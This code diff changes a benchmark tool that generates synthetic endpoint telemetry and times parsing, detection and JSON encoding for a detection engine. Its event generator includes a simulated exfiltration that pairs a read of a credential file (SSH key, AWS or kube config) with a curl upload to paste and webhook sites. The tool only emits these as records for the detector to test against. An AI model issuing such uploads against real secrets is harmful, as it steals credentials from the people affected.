@@ -1,8 +1,8 @@
 // bench_replay: the userspace benchmark's tools (see BENCHMARKS.md).
 //   bench_replay generate N FILE [SEED]  writes N telemetry records in the replay format, written
 //                                        by the real ECS writer, with a realistic mix
-//   bench_replay stages FILE             times the replay stages apart (parse, detect, JSON
-//                                        encoding) and prints one JSON object
+//   bench_replay stages FILE             times the replay stages apart in CPU time (parse, detect,
+//                                        JSON encoding) and prints one JSON object
 #include <fcntl.h>
 #include <sys/resource.h>
 #include <unistd.h>
@@ -67,7 +67,10 @@ private:
     std::uint64_t pick(std::uint64_t n) { return std::uniform_int_distribution<std::uint64_t>(0, n - 1)(rng_); }
     bool chance(double p) { return std::bernoulli_distribution(p)(rng_); }
     template <typename T, std::size_t N>
-    const T& one_of(const T (&items)[N]) { return items[pick(N)]; }
+    const T& one_of(const T (&items)[N])
+    {
+        return items[pick(N)];
+    }
 
     ProcessRef new_process(std::string executable, std::vector<std::string> args, const ProcessRef* parent)
     {
@@ -77,7 +80,8 @@ private:
         p.start_time = now_;
         p.entity_id = fmt::format("{}-{}-{}", boot_id, p.pid, p.start_time);
         p.ppid = parent ? parent->pid : 1;
-        p.parent_entity_id = parent ? parent->entity_id : fmt::format("{}-1-{}", boot_id, start_time - 3600'000'000'000ULL);
+        p.parent_entity_id =
+            parent ? parent->entity_id : fmt::format("{}-1-{}", boot_id, start_time - 3600'000'000'000ULL);
         p.pgid = parent && chance(0.5) ? parent->pgid : p.pid;
         p.sid = parent ? parent->sid : p.pid;
         p.uid = chance(0.7) ? 1000 : 0;
@@ -92,7 +96,8 @@ private:
             p.pod_uid = parent->pod_uid;
         } else if (chance(0.15)) {
             p.container_id = fmt::format("{:016x}{:016x}{:016x}{:016x}", rng_(), rng_(), rng_(), rng_());
-            if (chance(0.5)) p.pod_uid = fmt::format("6b8d7e3c-{:04x}-4222-8333-{:012x}", pick(65536), pick(1ULL << 48));
+            if (chance(0.5))
+                p.pod_uid = fmt::format("6b8d7e3c-{:04x}-4222-8333-{:012x}", pick(65536), pick(1ULL << 48));
         }
         return p;
     }
@@ -101,21 +106,22 @@ private:
 
     void file_opens(Actor& a, int count, bool sensitive)
     {
-        static constexpr const char* system_files[] = {"/etc/passwd", "/etc/hosts", "/etc/nsswitch.conf",
-                                                       "/etc/resolv.conf", "/etc/localtime", "/etc/ssl/certs/ca-certificates.crt",
-                                                       "/etc/gitconfig", "/var/log/syslog", "/etc/os-release"};
-        static constexpr const char* project_files[] = {"src/main.cpp", "src/util.hpp", "README.md", "Makefile",
-                                                        "package.json", "data/report-2026.csv", "notes.txt",
-                                                        ".git/config", ".git/HEAD", "build/out.o"};
-        static constexpr const char* secrets[] = {".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".netrc",
-                                                  ".git-credentials", ".bash_history", ".docker/config.json"};
+        static constexpr const char* system_files[] = {
+            "/etc/passwd",      "/etc/hosts",      "/etc/nsswitch.conf",
+            "/etc/resolv.conf", "/etc/localtime",  "/etc/ssl/certs/ca-certificates.crt",
+            "/etc/gitconfig",   "/var/log/syslog", "/etc/os-release"};
+        static constexpr const char* project_files[] = {
+            "src/main.cpp",         "src/util.hpp", "README.md",   "Makefile",  "package.json",
+            "data/report-2026.csv", "notes.txt",    ".git/config", ".git/HEAD", "build/out.o"};
+        static constexpr const char* secrets[] = {
+            ".ssh/id_ed25519",  ".aws/credentials", ".kube/config",       ".netrc",
+            ".git-credentials", ".bash_history",    ".docker/config.json"};
         for (int i = 0; i < count; ++i) {
             FileOpenEvent e;
             e.process = a.ref;
             std::string path;
             const bool write = !(sensitive && i == 0) && chance(0.15);
-            if (sensitive && i == 0)
-                path = fmt::format("{}/{}", home(), one_of(secrets));
+            if (sensitive && i == 0) path = fmt::format("{}/{}", home(), one_of(secrets));
             else if (write)  // outputs are the writer's own files (objects, downloads, caches)
                 path = fmt::format("{}/src/proj{}/build/{}-{}.o", home(), pick(40), a.ref.pid, i);
             else if (!recent_writes_.empty() && chance(0.02))  // staging: a file another process wrote
@@ -130,8 +136,7 @@ private:
             e.device = 2049;
             e.flags = write ? 0x80241 : 0x80000;  // O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, or O_RDONLY|O_CLOEXEC
             if (write) {
-                if (recent_writes_.size() < 64)
-                    recent_writes_.push_back(e.path);
+                if (recent_writes_.size() < 64) recent_writes_.push_back(e.path);
                 else
                     recent_writes_[pick(64)] = e.path;
             }
@@ -167,8 +172,8 @@ private:
             if (chance(0.4)) d.resolved_ips.push_back(fmt::format("2606:4700::{:x}", pick(65536)));
             a.script.emplace_back(std::move(d));
         }
-        a.script.emplace_back(ConnectEvent{0, a.ref, {cookie}, Transport::tcp, false, src, {ip, port}, domain,
-                                           200'000 + pick(1'000'000)});
+        a.script.emplace_back(ConnectEvent{
+            0, a.ref, {cookie}, Transport::tcp, false, src, {ip, port}, domain, 200'000 + pick(1'000'000)});
         if (tls) {
             TlsClientHelloEvent t;
             t.process = a.ref;
@@ -180,16 +185,33 @@ private:
             a.script.emplace_back(std::move(t));
         } else {
             static constexpr const char* paths[] = {"/", "/index.html", "/api/v1/items", "/upload", "/health"};
-            a.script.emplace_back(HttpRequestEvent{0, a.ref, {cookie}, {ip, port}, chance(0.8) ? "GET" : "POST",
-                                                   domain, one_of(paths), ""});
+            a.script.emplace_back(HttpRequestEvent{
+                0, a.ref, {cookie}, {ip, port}, chance(0.8) ? "GET" : "POST", domain, one_of(paths), ""});
         }
         const int periodic = static_cast<int>(pick(3));
         for (int i = 1; i <= periodic; ++i)
-            a.script.emplace_back(FlowSummaryEvent{0, a.ref, {cookie}, Transport::tcp, src, {ip, port}, domain,
-                                                   tls ? "sni" : "http", bytes_out * i / (periodic + 1),
-                                                   bytes_in * i / (periodic + 1), false});
-        a.script.emplace_back(FlowSummaryEvent{0, a.ref, {cookie}, Transport::tcp, src, {ip, port}, domain,
-                                               tls ? "sni" : "http", bytes_out, bytes_in, true});
+            a.script.emplace_back(FlowSummaryEvent{0,
+                                                   a.ref,
+                                                   {cookie},
+                                                   Transport::tcp,
+                                                   src,
+                                                   {ip, port},
+                                                   domain,
+                                                   tls ? "sni" : "http",
+                                                   bytes_out * i / (periodic + 1),
+                                                   bytes_in * i / (periodic + 1),
+                                                   false});
+        a.script.emplace_back(FlowSummaryEvent{0,
+                                               a.ref,
+                                               {cookie},
+                                               Transport::tcp,
+                                               src,
+                                               {ip, port},
+                                               domain,
+                                               tls ? "sni" : "http",
+                                               bytes_out,
+                                               bytes_in,
+                                               true});
     }
 
     void start(Actor& a, const ProcessRef* parent)
@@ -224,7 +246,8 @@ private:
         --shell_uses_;
         const ProcessRef* parent = &*shell_;
         if (kind < 450) {  // local commands: no network
-            static constexpr const char* tools[] = {"ls", "cat", "grep", "find", "make", "cc1plus", "sed", "awk", "cp", "stat"};
+            static constexpr const char* tools[] = {"ls",      "cat", "grep", "find", "make",
+                                                    "cc1plus", "sed", "awk",  "cp",   "stat"};
             std::string tool = one_of(tools);
             std::vector<std::string> args{tool};
             const auto n = 1 + pick(5);
@@ -235,10 +258,11 @@ private:
             start(a, parent);
             file_opens(a, 1 + static_cast<int>(pick(8)), false);
         } else if (kind < 800) {  // network clients
-            static constexpr const char* domains[] = {"api.github.com", "github.com", "pypi.org",
-                                                      "files.pythonhosted.org", "registry.npmjs.org",
-                                                      "deb.debian.org", "www.google.com", "example.com",
-                                                      "objects.githubusercontent.com", "api.openai.com"};
+            static constexpr const char* domains[] = {
+                "api.github.com",         "github.com",         "pypi.org",
+                "files.pythonhosted.org", "registry.npmjs.org", "deb.debian.org",
+                "www.google.com",         "example.com",        "objects.githubusercontent.com",
+                "api.openai.com"};
             std::string domain = one_of(domains);
             const auto which = pick(4);
             std::vector<std::string> args;
@@ -246,17 +270,20 @@ private:
             if (which == 0) {
                 exe = "/usr/bin/curl";
                 args = {"curl", "-sSL", "-H", fmt::format("Authorization: Bearer ghp_{:016x}{:016x}", rng_(), rng_()),
-                        fmt::format("https://{}/repos/org{}/repo{}/releases?page={}", domain, pick(100), pick(1000), pick(9))};
+                        fmt::format("https://{}/repos/org{}/repo{}/releases?page={}", domain, pick(100), pick(1000),
+                                    pick(9))};
             } else if (which == 1) {
                 exe = "/usr/bin/git";
                 args = {"git", "fetch", "origin", fmt::format("refs/heads/feature-{}", pick(100000))};
             } else if (which == 2) {
                 exe = "/usr/bin/python3.11";
-                args = {"python3", "-m", "pip", "install", fmt::format("package{}=={}.{}", pick(5000), pick(9), pick(20))};
+                args = {"python3", "-m", "pip", "install",
+                        fmt::format("package{}=={}.{}", pick(5000), pick(9), pick(20))};
             } else {
                 exe = "/usr/bin/wget";
-                args = {"wget", "-q", "-O", fmt::format("/tmp/dl-{}.tar.gz", pick(100000)),
-                        fmt::format("https://{}/dist/v{}.{}/pkg.tar.gz?token={:016x}", domain, pick(9), pick(30), rng_())};
+                args = {
+                    "wget", "-q", "-O", fmt::format("/tmp/dl-{}.tar.gz", pick(100000)),
+                    fmt::format("https://{}/dist/v{}.{}/pkg.tar.gz?token={:016x}", domain, pick(9), pick(30), rng_())};
             }
             a.ref = new_process(exe, std::move(args), parent);
             start(a, parent);
@@ -267,9 +294,10 @@ private:
         } else if (kind < 995) {  // services: many connections of one long-lived process
             static constexpr const char* services[] = {"node", "nginx", "python3", "java"};
             std::string tool = one_of(services);
-            a.ref = new_process("/usr/bin/" + tool, {tool, fmt::format("/srv/app{}/server.js", pick(50)), "--port",
-                                                     fmt::format("{}", 3000 + pick(100))},
-                                nullptr);
+            a.ref = new_process(
+                "/usr/bin/" + tool,
+                {tool, fmt::format("/srv/app{}/server.js", pick(50)), "--port", fmt::format("{}", 3000 + pick(100))},
+                nullptr);
             start(a, nullptr);
             file_opens(a, 2, false);
             const auto conns = 2 + pick(6);
@@ -279,8 +307,9 @@ private:
         } else {  // an exfiltration: reads a secret and uploads it to a paste site or webhook
             static constexpr const char* sinks[] = {"pastebin.com", "transfer.sh", "hooks.slack.com", "webhook.site"};
             std::string domain = one_of(sinks);
-            a.ref = new_process("/usr/bin/curl", {"curl", "-sS", "-T", "-", fmt::format("https://{}/u/{}", domain, pick(1u << 30))},
-                                parent);
+            a.ref =
+                new_process("/usr/bin/curl",
+                            {"curl", "-sS", "-T", "-", fmt::format("https://{}/u/{}", domain, pick(1u << 30))}, parent);
             start(a, parent);
             file_opens(a, 1, true);
             connection(a, domain, true, 200'000 + pick(1'000'000), 600 + pick(600));
@@ -326,49 +355,43 @@ double cpu_seconds()
            static_cast<double>(ru.ru_utime.tv_usec + ru.ru_stime.tv_usec) / 1e6;
 }
 
-// Two passes over the same file: parse only; then parse + detect + JSON encoding of every event
-// and alert (what `replay --events all` encodes), the encoding timed apart with the monotonic
-// clock around each call. Detection is the rest of the second pass.
+// Three passes over the same file, each timed in CPU seconds of the process (a wall clock around
+// each call would count the time other processes hold the CPU): parse only; parse + detect; parse
+// + detect + JSON encoding of every event and alert (what `replay --events all` encodes). Each
+// stage is the difference between two passes.
 int stages(const char* path)
 {
     auto rules = std::get<detect::Rules>(detect::load_rules(builtin_rules_yaml, "built-in rules"));
-    double parse_s = 0, full_s = 0, encode_s = 0;
+    double spent[3] = {};
     std::uint64_t events = 0, alerts = 0, bytes = 0;
-    for (int pass = 0; pass < 2; ++pass) {
+    for (int pass = 0; pass < 3; ++pass) {
         std::uint64_t errors = 0;
         auto reader = replay::ReplayReader::open(path, [&](std::uint64_t, std::string_view) { ++errors; });
         detect::Engine engine(rules);
         output::EcsEncoder encoder;
-        Event event;
-        std::uint64_t n = 0;
-        std::chrono::steady_clock::duration encoding{};
+        std::uint64_t n = 0, pass_alerts = 0;
         const double begin = cpu_seconds();
-        while (reader->next(event)) {
+        while (const Event* next = reader->next()) {
+            const Event& event = *next;
             ++n;
             if (pass == 0) continue;
             auto out = engine.process(event);
-            alerts += out.size();
-            const auto t0 = std::chrono::steady_clock::now();
+            pass_alerts += out.size();
+            if (pass == 1) continue;
             bytes += encoder.line(event).size();
             for (const auto& alert : out) bytes += encoder.line(alert).size();
-            encoding += std::chrono::steady_clock::now() - t0;
         }
-        const double spent = cpu_seconds() - begin;
+        spent[pass] = cpu_seconds() - begin;
         if (errors) {
             fmt::print(stderr, "bench_replay: {} malformed lines in {}\n", errors, path);
             return 1;
         }
         events = n;
-        if (pass == 0) {
-            parse_s = spent;
-        } else {
-            full_s = spent;
-            encode_s = std::chrono::duration<double>(encoding).count();
-        }
+        alerts = pass_alerts;
     }
     fmt::print("{{\"events\":{},\"alerts\":{},\"encoded_bytes\":{},\"parse_s\":{:.3f},\"detect_s\":{:.3f},"
                "\"encode_s\":{:.3f}}}\n",
-               events, alerts, bytes, parse_s, std::max(0.0, full_s - parse_s - encode_s), encode_s);
+               events, alerts, bytes, spent[0], std::max(0.0, spent[1] - spent[0]), std::max(0.0, spent[2] - spent[1]));
     return 0;
 }
 
